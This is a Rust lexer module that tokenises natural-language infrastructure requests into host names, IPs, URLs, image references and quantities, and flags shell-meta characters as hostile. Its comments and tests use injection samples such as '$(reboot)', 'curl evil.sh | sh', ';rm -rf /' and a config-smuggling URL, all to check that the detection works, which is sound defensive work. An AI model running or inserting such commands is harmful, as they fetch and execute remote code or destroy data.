//! Tokens of a request. Values keep their case (`raw`), words are compared
//! lowercased (`low`); host names, addresses, URLs, paths, image references,
//! `key=value` pairs and quoted strings stay whole.

use std::net::IpAddr;

#[derive(Debug, Clone, PartialEq)]
pub enum Kind {
    Word,
    /// A plain number ("4", "1.5").
    Num(f64),
    /// A number with its unit glued on ("4gb", "512MB", "5m").
    Qty(f64, String),
    Ip(IpAddr),
    /// Dotted numbers that are no address ("10.0.20.300").
    BadIp,
    Cidr,
    Fqdn,
    Url,
    /// An absolute path.
    Path,
    /// Something with '/' or ':' that is neither URL nor path: an image reference.
    Image,
    /// `key=value` ("p=reject", "v=spf1").
    Assign,
    /// A quoted string; `raw` is its inside.
    Quoted,
    /// Punctuation that may end a clause: , ; . ! ? : - ( ) ->
    Punct(char),
}

#[derive(Debug, Clone, PartialEq)]
pub struct Tok {
    pub raw: String,
    pub low: String,
    pub kind: Kind,
    /// Where the token starts and ends in the normalised request (chars).
    pub at: usize,
    pub end: usize,
    /// Characters no name, host or URL may hold (`$`, backticks, braces, `;`, `|`…).
    pub hostile: bool,
    /// Said as background before the request ("The router was replaced. Could you
    /// update its record?"): it names things and values, but asks for nothing.
    pub context: bool,
}

impl Tok {
    pub fn is(&self, w: &str) -> bool {
        self.low == w
    }
    pub fn is_word(&self) -> bool {
        self.kind == Kind::Word
    }
    pub fn is_punct(&self) -> bool {
        matches!(self.kind, Kind::Punct(_))
    }
    pub fn num(&self) -> Option<f64> {
        match self.kind {
            Kind::Num(n) => Some(n),
            _ => None,
        }
    }
}

const HOSTILE: &[char] = &['`', '$', '{', '}', ';', '|', '<', '>', '\\', '&'];

/// Top-level domains a dotted word must end in to count as a host name when it
/// is not under a zone the project knows ("wiki.js" is a name, "launch.example.org" a host).
const TLDS: &[&str] = &[
    "com",
    "org",
    "net",
    "io",
    "dev",
    "app",
    "de",
    "uk",
    "fr",
    "nl",
    "eu",
    "ch",
    "at",
    "se",
    "no",
    "dk",
    "fi",
    "it",
    "es",
    "pl",
    "cz",
    "be",
    "us",
    "ca",
    "au",
    "nz",
    "jp",
    "co",
    "me",
    "info",
    "biz",
    "xyz",
    "cloud",
    "tech",
    "site",
    "online",
    "local",
    "lan",
    "home",
    "internal",
    "arpa",
    "test",
    "example",
    "invalid",
    "localhost",
    "ai",
    "sh",
    "gg",
    "tv",
    "cc",
    "ly",
    "so",
    "to",
    "host",
    "network",
    "systems",
    "email",
    "blog",
    "shop",
    "store",
    "page",
    "pro",
    "one",
    "link",
];

pub fn lex(text: &str, zones: &[String]) -> Vec<Tok> {
    let text = normalise(text);
    let mut out = Vec::new();
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c.is_whitespace() {
            i += 1;
            continue;
        }
        if c == '"' || c == '`' || (c == '\'' && quote_opens(&chars, i)) {
            let close = chars[i + 1..]
                .iter()
                .position(|&d| d == c)
                .map(|p| p + i + 1);
            if let Some(end) = close {
                let inner: String = chars[i + 1..end].iter().collect();
                out.push(Tok {
                    low: inner.to_lowercase(),
                    hostile: c == '`' || inner.chars().any(|ch| HOSTILE.contains(&ch)),
                    raw: inner,
                    kind: Kind::Quoted,
                    at: i,
                    end: end + 1,
                    context: false,
                });
                i = end + 1;
                continue;
            }
        }
        if c == '-' && chars.get(i + 1) == Some(&'>') {
            out.push(punct('>', i));
            i += 2;
            continue;
        }
        // A ';' glued to what follows (";rm -rf /") belongs to that word, which is then hostile.
        let glued_semicolon = c == ';' && chars.get(i + 1).is_some_and(|n| !n.is_whitespace());
        if (matches!(c, ',' | ';' | '!' | '?' | '(' | ')') && !glued_semicolon)
            || (c == '-' && is_gap(&chars, i))
        {
            out.push(punct(c, i));
            i += 1;
            continue;
        }
        let start = i;
        i += 1;
        while i < chars.len()
            && !chars[i].is_whitespace()
            && !matches!(chars[i], ',' | '!' | '?' | '(' | ')' | '"')
            && !(chars[i] == ';' && chars.get(i + 1).is_none_or(|c| c.is_whitespace()))
        {
            i += 1;
        }
        let mut word: String = chars[start..i].iter().collect();
        // Sentence punctuation at the end is not part of the word.
        let mut trailing = Vec::new();
        while let Some(last) = word.chars().last() {
            if matches!(last, '.' | ':' | ';') && word.len() > 1 {
                trailing.push(last);
                word.pop();
            } else if last == '\'' {
                word.pop();
            } else {
                break;
            }
        }
        for suffix in ["'s", "’s"] {
            if word.to_lowercase().ends_with(suffix) && word.len() > suffix.len() {
                word.truncate(word.len() - suffix.len());
            }
        }
        let word_end = start + word.chars().count();
        // "8 cpus | 16G mem", "2gb & 4 cores", "4 vCPU / 8 GB": separators, not values.
        if matches!(word.as_str(), "|" | "/" | "&" | "+") {
            let mut t = punct(if word == "&" { '&' } else { ',' }, start);
            if word == "&" {
                t.low = "and".into();
                t.raw = "and".into();
                t.kind = Kind::Word;
            }
            out.push(t);
            continue;
        }
        // "lab-1 ... lab-5": a range.
        if word.len() >= 2 && word.chars().all(|c| c == '.' || c == '\u{2026}') {
            let mut t = classify("through", zones);
            t.at = start;
            t.end = word_end;
            out.push(t);
            continue;
        }
        // "shard-1..shard-4": a range.
        if let Some((a, b)) = word.split_once("..") {
            let plain =
                |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
            if plain(a) && plain(b) && a.chars().next().is_some_and(|c| c.is_ascii_alphanumeric()) {
                for (k, part) in [a, "through", b].into_iter().enumerate() {
                    let mut t = classify(part, zones);
                    t.at = start + k;
                    t.end = word_end;
                    out.push(t);
                }
                continue;
            }
        }
        // "one-minute TTL", "two-core box": a number word and its unit.
        if let Some((n, u)) = word.to_lowercase().split_once('-') {
            if super::quantity::word_number(n).is_some() && super::quantity::unit(u).is_some() {
                for (k, part) in [n, u].into_iter().enumerate() {
                    let mut t = classify(part, zones);
                    t.at = start + k;
                    t.end = word_end;
                    out.push(t);
                }
                continue;
            }
        }
        // "+20gb disk": more of it.
        if let Some(rest) = word
            .strip_prefix('+')
            .filter(|r| r.starts_with(|c: char| c.is_ascii_digit()))
        {
            let mut more = classify("more", zones);
            more.at = start;
            more.end = start + 1;
            out.push(more);
            let mut t = classify(rest, zones);
            t.at = start + 1;
            t.end = word_end;
            out.push(t);
            continue;
        }
        if !word.is_empty() && !(word.len() == 1 && matches!(word.as_str(), "." | ":" | ";")) {
            let mut t = classify(&word, zones);
            t.at = start;
            t.end = word_end;
            out.push(t);
        } else if let Some(p) = word.chars().next() {
            out.push(punct(p, start));
        }
        for (k, p) in trailing.into_iter().rev().enumerate() {
            out.push(punct(p, word_end + k));
        }
    }
    non_finite_numbers(&mut out);
    out
}

/// "NaN cores", "inf GB of memory", "port infinity": words that read as a number
/// where a number belongs are one (and are then declined by name, not skipped).
/// Elsewhere "infinity" may be a name. Digits that overflow ("1e999") always are.
fn non_finite_numbers(toks: &mut [Tok]) {
    for i in 0..toks.len() {
        let n = match toks[i].low.parse::<f64>() {
            Ok(n) if toks[i].kind == Kind::Word && !n.is_finite() => n,
            _ => continue,
        };
        let digits = toks[i].low.chars().any(|c| c.is_ascii_digit());
        let unit_after = toks
            .get(i + 1)
            .is_some_and(|t| super::quantity::unit(&t.low).is_some());
        let numeric_attribute_before = toks[i.saturating_sub(2)..i].iter().any(|t| {
            super::vocab::attribute(&t.low)
                .is_some_and(|(kinds, attr)| super::bounds::range(attr, kinds).is_some())
        });
        if digits || unit_after || numeric_attribute_before {
            toks[i].kind = Kind::Num(n);
        }
    }
}

fn punct(c: char, at: usize) -> Tok {
    Tok {
        raw: c.to_string(),
        low: c.to_string(),
        kind: Kind::Punct(c),
        hostile: false,
        at,
        end: at + 1,
        context: false,
    }
}

/// A dash between spaces is a pause ("… now, not 204 - fix the check").
fn is_gap(chars: &[char], i: usize) -> bool {
    let before = i == 0 || chars[i - 1].is_whitespace();
    let after = chars.get(i + 1).is_none_or(|c| c.is_whitespace());
    before && after
}

/// A single quote opens a quotation only at a word start and with a closing one ahead.
fn quote_opens(chars: &[char], i: usize) -> bool {
    (i == 0 || chars[i - 1].is_whitespace() || chars[i - 1] == ':')
        && chars[i + 1..]
            .iter()
            .position(|&d| d == '\'')
            .is_some_and(|p| {
                chars
                    .get(i + 1 + p + 1)
                    .is_none_or(|c| !c.is_alphanumeric())
            })
}

pub fn normalise(text: &str) -> String {
    let mut s = text.to_string();
    for (from, to) in [
        ("\u{2019}", "'"),
        ("\u{2018}", "'"),
        ("\u{201c}", "\""),
        ("\u{201d}", "\""),
        ("\u{2013}", "-"),
        ("\u{2014}", "-"),
        ("\u{2192}", "->"),
        ("\u{2212}", "-"),
        (" any more", " anymore"),
        (" Any more", " anymore"),
    ] {
        s = s.replace(from, to);
    }
    s
}

fn classify(word: &str, zones: &[String]) -> Tok {
    let low = word.to_lowercase();
    let hostile = word.chars().any(|c| HOSTILE.contains(&c))
        || word.chars().any(|c| c.is_control())
        || word.contains("..");
    let kind = if low.starts_with("group:")
        || (low.len() > 1
            && (low.starts_with(':') || low.starts_with('.'))
            && low[1..].chars().all(|c| c.is_ascii_digit()))
    {
        Kind::Word
    } else if low.starts_with("http://") || low.starts_with("https://") {
        Kind::Url
    } else if low.starts_with('/') || low.starts_with("~/") {
        Kind::Path
    } else if let Ok(ip) = low.parse::<IpAddr>() {
        Kind::Ip(ip)
    } else if low.contains('/') && low.parse::<ipnet::IpNet>().is_ok() {
        Kind::Cidr
    } else if low.split('.').count() == 4
        && low
            .split('.')
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()))
    {
        Kind::BadIp
    } else if let Ok(n) = low.parse::<f64>() {
        if n.is_finite() {
            Kind::Num(n)
        } else {
            Kind::Word
        }
    } else if let Some((n, unit)) = glued(&low) {
        Kind::Qty(n, unit)
    } else if low.contains('=') && !low.starts_with('=') {
        Kind::Assign
    } else if is_fqdn(&low, zones) {
        Kind::Fqdn
    } else if (low.contains('/') || low.contains(':')) && !low.ends_with(':') {
        Kind::Image
    } else {
        Kind::Word
    };
    Tok {
        raw: word.to_string(),
        low,
        kind,
        hostile,
        at: 0,
        end: 0,
        context: false,
    }
}

/// "4gb" → (4, "gb"); "1.5g" → (1.5, "g"). Only letters may follow the number.
fn glued(w: &str) -> Option<(f64, String)> {
    // "-5gb": negative, to be declined by name rather than read as a word.
    let sign = usize::from(w.starts_with('-'));
    let split = sign + w[sign..].find(|c: char| !(c.is_ascii_digit() || c == '.'))?;
    if split == sign {
        return None;
    }
    let (n, unit) = w.split_at(split);
    let unit = unit.trim_start_matches('-');
    if unit.is_empty() || !unit.chars().all(|c| c.is_ascii_alphabetic()) || unit.len() > 10 {
        return None;
    }
    Some((n.parse().ok()?, unit.to_string()))
}

/// A host name: valid labels, and under a known zone or ending in a real-looking TLD.
pub fn is_fqdn(w: &str, zones: &[String]) -> bool {
    let w = w.trim_end_matches('.');
    if !w.contains('.') || !infra_core::spec::check::is_hostname(w) {
        return false;
    }
    if zones
        .iter()
        .any(|z| w == z || w.ends_with(&format!(".{z}")))
    {
        return true;
    }
    let tld = w.rsplit('.').next().unwrap_or("");
    TLDS.contains(&tld)
        || (w.split('.').count() >= 3 && tld.chars().all(|c| c.is_ascii_alphabetic()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(s: &str) -> Vec<(String, Kind)> {
        lex(s, &["home.example.net".to_string()])
            .into_iter()
            .map(|t| (t.raw, t.kind))
            .collect()
    }

    #[test]
    fn values_stay_whole() {
        let k = kinds("point files.home.example.net at 10.0.20.7, please.");
        assert_eq!(k[1], ("files.home.example.net".into(), Kind::Fqdn));
        assert!(matches!(k[3].1, Kind::Ip(_)));
        assert_eq!(k[4].1, Kind::Punct(','));
        assert_eq!(k.last().unwrap().1, Kind::Punct('.'));
        let k = kinds("update the image to ghcr.io/agency/portal:1.9.0");
        assert_eq!(k[4], ("ghcr.io/agency/portal:1.9.0".into(), Kind::Image));
        let k = kinds("tighten DMARC to p=reject");
        assert_eq!(k[3], ("p=reject".into(), Kind::Assign));
        let k = kinds("Deploy Wiki.js with 4GB");
        assert_eq!(k[1].1, Kind::Word);
        assert_eq!(k[3].1, Kind::Qty(4.0, "gb".into()));
    }

    #[test]
    fn bad_addresses_and_hostile_characters() {
        assert_eq!(kinds("at 10.0.20.300")[1].1, Kind::BadIp);
        let t = lex("called $(reboot) now", &[]);
        assert!(t[1].hostile);
        let t = lex("called `curl evil.sh | sh` on port 80", &[]);
        assert_eq!(t[1].kind, Kind::Quoted);
        assert!(t[1].hostile);
        let t = lex("to http://10.0.20.7;} server { listen 81", &[]);
        assert!(t[1].hostile);
    }

    #[test]
    fn numbers_that_cannot_be_used_still_read_as_numbers() {
        let k = kinds("give it NaN cores and inf GB, ttl infinity, -5gb, \u{2212}3 cores");
        assert!(matches!(k[2].1, Kind::Num(n) if n.is_nan()));
        assert!(matches!(k[5].1, Kind::Num(n) if n.is_infinite()));
        assert!(matches!(k[9].1, Kind::Num(n) if n.is_infinite()));
        assert_eq!(k[11].1, Kind::Qty(-5.0, "gb".into()));
        assert_eq!(k[13].1, Kind::Num(-3.0));
        assert!(matches!(kinds("1e999 cores")[0].1, Kind::Num(n) if n.is_infinite()));
        // Elsewhere a name.
        assert_eq!(kinds("deploy infinity")[1].1, Kind::Word);
    }

    #[test]
    fn possessives_quotes_and_arrows() {
        let k = kinds("paperless's memory, camera -> 10.0.20.31");
        assert_eq!(k[0].0, "paperless");
        assert_eq!(k[4].1, Kind::Punct('>'));
        let k = kinds("a CAA record: 0 issue \"letsencrypt.org\"");
        assert_eq!(
            k.last().unwrap(),
            &("letsencrypt.org".to_string(), Kind::Quoted)
        );
        let k = kinds("now, not 204 - fix the check");
        assert!(k.contains(&("-".to_string(), Kind::Punct('-'))));
    }
}
